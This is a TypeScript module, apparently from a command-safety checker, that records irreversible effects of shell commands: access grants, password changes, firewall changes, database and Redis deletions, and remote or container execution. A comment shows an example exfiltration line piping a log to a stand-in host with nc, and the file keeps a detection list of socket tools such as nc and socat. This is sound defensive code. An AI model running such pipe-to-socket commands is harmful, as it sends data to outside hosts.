import { isOnThisMachine } from './local-stores.js'
import { hostAt, noteTransferred } from './remote-shell.js'
import { longPattern, readSet } from '../../../text/data.js'
import { noteGitHub } from './github.js'
import { CAPABILITIES } from '@plimsoll/contracts'
import { kindName } from '../../../acts/product-words.js'
import { type Effects, createEffects } from '../../effects.js'
import { actsOn, namesOfFed, wordsIn } from '../../objects.js'
import { raiseWords } from '../../code.js'
import { readOtherQuery } from '../../sql/other-queries.js'
import { readPossibleSql } from '../../sql/read-sql.js'
import { elsewhere as runsThere } from '../../world/known-world.js'
import { type Call, type ShellContext, hasOption, isOpen, operandsOf, placeOfHost, quoted } from '../call.js'
import { thingNames } from '../own-things.js'
import { noteTableActs } from './act-table.js'
import { noteModes, noteOwners } from './doors.js'
import { raiseIrreversible } from './irreversible.js'
import { LIVE_WORDS, isOfLive } from './live.js'
import { onlyLooks } from './looks.js'
import { noteStops } from './stops.js'

const GRANT_COMMANDS = readSet('shell', 'grantCommands')
const CHANGES_SECRETS = new Set(['passwd', 'chpasswd'])
const FIREWALLS = new Set(['iptables', 'ip6tables', 'nft', 'ufw', 'firewall-cmd'])
const OPENS_FIREWALL = longPattern('acts.OPENS_FIREWALL')
/** Redis commands that delete keys, or stop the server. */
const TAKES_KEYS = longPattern('acts.TAKES_KEYS')
/** The same within a script in Lua. */
const CALLS_TAKING = longPattern('acts.CALLS_TAKING')

const takesKeys = (word: string): boolean => TAKES_KEYS.test(word) || CALLS_TAKING.test(word)

/** MongoDB shell methods that delete documents, collections or databases, or stop the server. */
const TAKES_DOCUMENTS = longPattern('acts.TAKES_DOCUMENTS')
/**
 * Records irreversible acts that the command's kind does not show: access given, a secret changed, a firewall opened, a database emptied in
 * its own language. O(arguments).
 */
export function noteShellActs(call: Call, context: ShellContext): void {
  const { effects } = context
  const elsewhere = runElsewhere(call)
  const { name, args } = call
  // A guest on this machine, behind a port, is no host of others.
  const port = args[args.indexOf('-p') + 1]
  const isGuest =
    REMOTE.has(name) &&
    args.includes('-p') &&
    port !== '22' &&
    /(?:^|@)(?:localhost|127\.0\.0\.1)$/.test(args[hostAt(args)] ?? '')
  if (elsewhere !== '' && !isGuest) {
    const { length } = effects.objects
    const known = [effects.made.length, effects.fresh.length, effects.claimed.length] as const
    const before = effects.signals.doesDelete
    const { openLosses } = effects
    runsThere(effects, () => context.nested(elsewhere, { ...context, piped: true }))
    if (REMOTE.has(name) && !isGuest) noteElsewhere(args[hostAt(args)] ?? '', length, known, effects)
    if (/^(?:docker|podman)$/.test(name)) {
      noteContainer(call, length, before, effects)
      effects.openLosses = openLosses
    }
  }
  const operands = operandsOf(call)
  if (elsewhere !== '' && REMOTE.has(name) && !isGuest)
    noteLiveChange(args[hostAt(args)] ?? '', elsewhere, context)
  noteTableActs(call, effects, context.isOfTest)
  noteGitHub(call, effects)
  noteFedSocket(call, context)
  noteTransferred(call, context)
  if (
    GRANT_COMMANDS.has(name) &&
    args.length > 0 &&
    !onlyLooks(call) &&
    !(name === 'gpasswd' && args.includes('-d')) &&
    !(name === 'usermod' && hasOption(call, 'L', '--lock'))
  )
    raiseIrreversible('grant', 'a command that gives access', effects)
  if (CHANGES_SECRETS.has(name) && !args.some((arg) => /^(?:-S|--status)$/.test(arg)))
    raiseIrreversible('credential', 'a command that changes a password', effects)
  if (FIREWALLS.has(name) && args.some((arg) => OPENS_FIREWALL.test(arg)))
    raiseIrreversible('delete', 'a command that takes rules of a firewall away', effects)
  if (name === 'redis-cli' && operands.some(takesKeys)) noteKeysTaken(call, context)
  if ((name === 'mongo' || name === 'mongosh') && [...args, call.fed ?? ''].some(takesDocuments))
    raiseIrreversible('delete', 'a command that empties a database', effects)
  if (
    (name === 'mongo' || name === 'mongosh') &&
    [...args, call.fed ?? ''].some((text) => ADMITS.test(text.slice(0, 4096)))
  )
    raiseIrreversible('grant', 'a command that gives access', effects)
  if (name === 'redis-cli' && OPENS_STORE.test(args.join(' ').slice(0, 1024)))
    raiseIrreversible('grant', 'a command that opens a database', effects)
  if (name === 'dropdb' || name === 'dropuser') {
    const database = operands.at(-1) ?? ''
    const isRebuilt =
      name === 'dropdb' &&
      database !== '' &&
      /\bcreatedb\b/.test(context.whole.slice(context.whole.indexOf(database)))
    raiseIrreversible(isRebuilt ? 'overwrite' : 'delete', 'a command that drops a database', effects)
    actsOn(effects, isRebuilt ? 'change' : 'delete', {
      kind: name === 'dropdb' ? 'table' : 'account',
      names: [database, ...wordsIn(database), ...(isOnThisMachine(call) ? [kindName('localdb')] : [])],
      own: name === 'dropdb' && database !== '' ? thingNames('database', database) : [],
    })
  }
  if (name === 'kill' && (effects.signals['privileged'] === 1 || isFedByOthers(call, context)))
    raiseIrreversible('delete', 'a command that ends programs of others', effects)
  else noteStops(call, context)
  if (QUERIES.has(name)) for (const text of args) if (/\s/.test(text)) readQuery(text, effects)
  if (runsCode(call)) for (const text of args) if (/[\s(.:]/.test(text)) raiseWords(text, effects)
  if (name === 'chmod') noteModes(call, operands, effects)
  if (name === 'chown' || name === 'chgrp' || name === 'setfacl') noteOwners(call, operands, effects)
}

/** Records that what a command is fed or prints goes to a host that is not of the organisation: a task that names the host asks for it. */
export function noteSent(host: string, context: ShellContext): void {
  if (host === '' || placeOfHost(host, context) !== 'outside') return
  raiseIrreversible('send', 'what a command is fed goes to another host', context.effects)
  actsOn(context.effects, 'send', { kind: 'host', byName: true, names: [host, ...wordsIn(host)] })
}

/** Records that what a command is fed goes to a host that is not of the organisation: `cat a.log | nc paste.example.net 9999`. */
function noteFedSocket(call: Call, context: ShellContext): void {
  if (!SOCKETS.has(call.name) || (!call.piped && call.fed === undefined)) return
  const isTls = call.name === 'openssl'
  // `-z` only tries the port.
  if ((isTls && call.args[0] !== 's_client') || (!isTls && hasOption(call, 'lz', '--listen'))) return
  const [host = ''] = isTls
    ? [(call.args[call.args.indexOf('-connect') + 1] ?? '').split(':')[0]]
    : operandsOf(call).flatMap((word) => (call.name === 'socat' ? (OF_SOCAT.exec(word)?.[1] ?? []) : word))
  noteSent(host, context)
}
const SOCKETS: ReadonlySet<string> = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet', 'openssl'])
/** The host of an address of `socat`: `TCP:paste.example.net:9999`. */
const OF_SOCAT = longPattern('acts.OF_SOCAT')

/** MongoDB shell methods that give access. */
const ADMITS = longPattern('acts.ADMITS')
/** Redis commands that let others in, or take the data of another server. */
const OPENS_STORE = longPattern('acts.OPENS_STORE')
/** Shells of databases whose queries are one of the arguments. */
const QUERIES = readSet('shell', 'queryShells')
/** Programs of frameworks that run code from an argument. */
const RUNS_CODE: ReadonlySet<string> = new Set('rails rake artisan tinker mix iex wp drush'.split(' '))

/** Whether a program of a framework may be given code, also as the file of an interpreter: `php artisan tinker`. */
const runsCode = ({ name, args }: Call): boolean =>
  RUNS_CODE.has(name.slice(name.lastIndexOf('/') + 1)) ||
  (name === 'php' && /(?:^|\/)artisan$/.test(args[0] ?? ''))

/** Records keys that Redis loses: by their names, or all of a server that only its port or a word for all names. */
function noteKeysTaken(call: Call, { effects, whole }: ShellContext): void {
  raiseIrreversible('delete', 'a command that empties a database', effects)
  const words = operandsOf(call)
  const at = words.findIndex(takesKeys)
  const command = words[at] ?? ''
  const inScript = TAKES_KEYS.test(command) ? [] : keysOfScript(command)
  const keys = inScript.concat(words.slice(at + 1, at + 5)).filter((key) => !/^(?:\$|\d)$/.test(key))
  const fed = keys.length > 0 ? [] : namesOfFed(whole)
  const port = call.args[call.args.indexOf('-p') + 1] ?? ''
  const isAll = /^(?:flush|shutdown|debug)|call\(.{0,8}flush/i.test(command) || keys.includes('*')
  const where = call.args.findIndex((arg) => arg === '-h' || arg === '-u')
  const place = where < 0 ? '' : (call.args[where + 1] ?? '').replace(/^\w{1,16}:\/\/(?:[^@/]{0,128}@)?/, '')
  const host = /^(?:localhost|127\.)/.test(place)
    ? []
    : [place, place.split('.')[0] ?? place, ...wordsIn(place.split('.')[0] ?? '')].filter(
        // A host that is called as what runs there is not named by that.
        (word) => word !== '' && !/^(?:redis|cache|keydb|valkey)\d{0,3}$/i.test(word),
      )
  const all = [
    ...(host.length === 0 ? [kindName('cache')] : []),
    'everything',
    'flush',
    'flushall',
    'flushdb',
    'entire',
    'shutdown',
    'server',
    port,
    ...host,
  ]
  actsOn(effects, 'delete', {
    kind: 'record',
    names: isAll
      ? all
      : [
          ...fed,
          ...keys.flatMap((key) => [key, ...key.split(/[:_]/), ...wordsIn(key.replaceAll(/[:_]/g, ' '))]),
        ],
    own: call.args.includes('-p') ? thingNames('port', port) : [],
    thing: isAll ? 'every key of a Redis server' : keys.join(' '),
  })
  if (isOfLive(place))
    actsOn(effects, 'delete', { kind: 'record', reach: 'live', names: LIVE_WORDS, thing: place })
}

/** The texts of a script in Lua that are no commands of Redis. */
const keysOfScript = (script: string): string[] =>
  [...script.slice(0, SCRIPT_MAX).matchAll(/call\(\s{0,8}["']\w{1,32}["']|["']([^"']{1,128})["']/g)]
    .flatMap(([, text]) => text ?? [])
    .slice(0, 4)
const SCRIPT_MAX = 16_384

function readQuery(text: string, effects: Effects): void {
  readPossibleSql(text, effects)
  readOtherQuery(text, effects)
}

/** Whether `kill` ends what only the run finds, and not what listens on a port or has a name. */
const isFedByOthers = (call: Call, { text }: ShellContext): boolean =>
  isOpen(call) && /\bxargs\b|\$\(/.test(text) && !FINDS_PROCESSES.test(text)

/** What is done on another host is done there: nothing that the session made here, and at once to what others use. */
function noteElsewhere(
  host: string,
  length: number,
  [made, fresh, claimed]: readonly [number, number, number],
  effects: Effects,
): void {
  effects.made.length = Math.min(made, effects.made.length)
  effects.fresh.length = Math.min(fresh, effects.fresh.length)
  effects.claimed.length = Math.min(claimed, effects.claimed.length)
  const name = host.split('@').at(-1) ?? host
  for (const { act, ...each } of effects.objects.splice(length)) {
    const reach = each.reach === 'control' ? 'control' : 'live'
    const names = act === 'stop' ? [...each.names, name, ...wordsIn(name)] : each.names
    actsOn(effects, act, { ...each, names, own: [], reach })
  }
}

/** Records that what is done in a container is own if the container is: whatever was named there, or is not known. */
function noteContainer({ args }: Call, length: number, before: number | undefined, effects: Effects): void {
  const words = args.slice(args.indexOf('exec') + 1)
  const container = words.find((arg, i) => !arg.startsWith('-') && !OF_EXEC.test(words[i - 1] ?? '')) ?? ''
  const own = thingNames('docker', container)
  const added = effects.objects.splice(length)
  for (const { act, ...each } of added) actsOn(effects, act, { ...each, own })
  if (added.length === 0 && before === undefined && effects.signals.doesDelete !== undefined)
    actsOn(effects, 'delete', { kind: 'container', names: [container, ...wordsIn(container)], own })
}

/** A command line without `sudo` and `docker exec NAME` before its commands. */
const withoutWrappers = (text: string): string =>
  text.replaceAll(/(^|[;&|(])\s{0,8}sudo\s(?!\s{0,8}-)/g, '$1').replaceAll(EXEC_IN_CONTAINER, '$1')

/** The hosts that a variable of a loop stands for: `for h in web1 web2; do ssh $h …`. */
function hostsOf(host: string, text: string): readonly string[] {
  const [, name] = /(?:^|@)\$\{?(\w{1,32})\}?$/.exec(host) ?? []
  if (name === undefined || text.length > TEXT_MAX) return [host]
  const [, words = ''] =
    new RegExp(`\\bfor\\s{1,4}${name}\\s{1,4}in\\s{1,4}([^;\\n$]{1,512})`).exec(text) ?? []
  const hosts = words.split(/\s+/).filter((word) => word !== '')
  return hosts.length === 0 ? [host] : hosts.slice(0, HOSTS_MAX)
}
const TEXT_MAX = 16_384
const HOSTS_MAX = 8

const WRITE = CAPABILITIES.indexOf('write')

/**
 * Records that a command changes something on another host, where it is live at once: it starts, stops, installs or writes, or is not known.
 * A command that only looks there is none.
 */
function noteLiveChange(host: string, text: string, context: ShellContext): void {
  if (text.startsWith('-')) return
  const effects = createEffects()
  context.nested(withoutWrappers(text), {
    ...context,
    effects,
    piped: true,
  })
  if (effects.capability < WRITE || effects.reversibility === 0) return
  // What it takes away there is judged by itself.
  if (effects.signals.doesDelete !== undefined && effects.objects.length > 0) return
  raiseIrreversible('publish', 'a command that changes something on another host', context.effects)
  for (const each of hostsOf(host, context.whole)) {
    const name = each.split('@').at(-1) ?? each
    actsOn(context.effects, 'deploy', {
      kind: 'host',
      reach: 'live',
      byName: true,
      names: [name, each, name.split('.')[0] ?? name, ...wordsIn(name)],
    })
  }
}

const REMOTE = new Set(['ssh', 'mosh', 'ansible'])

/** The command line that another host or a container runs; empty if there is none. */
function runElsewhere({ name, args }: Call): string {
  const at = args.indexOf('--')
  if (name === 'ansible') return commandOfAnsible(args)
  if (REMOTE.has(name)) {
    const host = hostAt(args)
    return host < 0 ? '' : args.slice(host + 1).join(' ')
  }
  const isIn = /^(?:kubectl|docker|docker-compose|podman|oc)$/.test(name) && args.includes('exec')
  if (!isIn) return ''
  if (at >= 0) return quoted(args.slice(at + 1))
  const words = args.slice(args.indexOf('exec') + 1)
  const where = words.findIndex((arg, i) => !arg.startsWith('-') && !OF_EXEC.test(words[i - 1] ?? ''))
  return where < 0 ? '' : quoted(words.slice(where + 1))
}

/** The command line that ansible runs on its hosts: by its modules for commands, or by none. */
function commandOfAnsible(args: readonly string[]): string {
  const module = args[args.findIndex((arg) => arg === '-m' || arg === '--module-name') + 1]
  const at = args.findIndex((arg) => arg === '-a' || arg === '--args')
  const isCommand = !args.includes('-m') || COMMAND_MODULES.test(module ?? '')
  if (isCommand) return at < 0 ? '' : (args[at + 1] ?? '')
  return LOOKING_MODULES.test(module ?? '') ? '' : 'changed-by-module'
}

/** Options of `exec` that take the next word. */
const OF_EXEC = longPattern('acts.OF_EXEC')

const takesDocuments = (text: string): boolean => text.length <= 4096 && TAKES_DOCUMENTS.test(text)

const LOOKING_MODULES = longPattern('acts.LOOKING_MODULES')

const EXEC_IN_CONTAINER = longPattern('acts.EXEC_IN_CONTAINER')

const FINDS_PROCESSES = longPattern('acts.FINDS_PROCESSES')

const COMMAND_MODULES = longPattern('acts.COMMAND_MODULES')
